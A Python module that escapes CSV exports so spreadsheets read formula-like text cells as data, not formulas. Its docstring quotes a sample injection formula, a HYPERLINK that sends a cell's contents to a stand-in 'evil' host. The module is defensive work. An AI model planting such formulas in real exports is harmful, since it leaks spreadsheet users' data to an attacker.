"""CSV that a spreadsheet opens as data, never as formulas.

Member exports put text of their own into downloads (event titles, org and campaign
names). A cell such as `=HYPERLINK("http://evil/?"&A1,"Click")` would run as a formula in
Excel or LibreOffice. As OWASP recommends for CSV injection, a text cell starting with
`=`, `+`, `-`, `@`, a tab or a carriage return is prefixed with a single quote and
written in double quotes. Numbers are never touched: numeric columns stay numbers, and a
text cell that is a plain number ("-3", as a marked column of counts may hold) is one.
"""

from __future__ import annotations

import re
import secrets

import polars as pl

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def needs_escape(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text)


def escaped_field(text: str) -> str:
    """The CSV field for a text a spreadsheet would read as a formula: 'text, quoted."""
    return '"' + ("'" + text).replace('"', '""') + '"'


def _is_text(dtype) -> bool:
    return dtype == pl.String or isinstance(dtype, pl.Categorical | pl.Enum)


def formula_safe_csv(frame: pl.DataFrame) -> str:
    """`frame.write_csv()`, with every text cell a spreadsheet would run escaped.

    polars quotes a field only when CSV needs it, so an escaped cell goes in as a
    placeholder no CSV writer quotes, replaced by its quoted field afterwards."""
    marker = f"csvcell{secrets.token_hex(8)}"
    fields: list[str] = []

    def placeholder(value: str | None) -> str | None:
        if value is None or not needs_escape(value):
            return value
        fields.append(escaped_field(value))
        return f"{marker}{len(fields) - 1}x"

    replaced = []
    for name, dtype in frame.schema.items():
        if not _is_text(dtype):
            continue
        values = frame[name].cast(pl.String)
        if values.str.contains(r"^[=+\-@\t\r]").any():
            replaced.append(
                pl.Series(name, [placeholder(v) for v in values.to_list()], dtype=pl.String)
            )
    if replaced:
        frame = frame.with_columns(replaced)
    text = frame.write_csv()
    if not fields:
        return text
    return re.sub(f"{marker}(\\d+)x", lambda match: fields[int(match.group(1))], text)
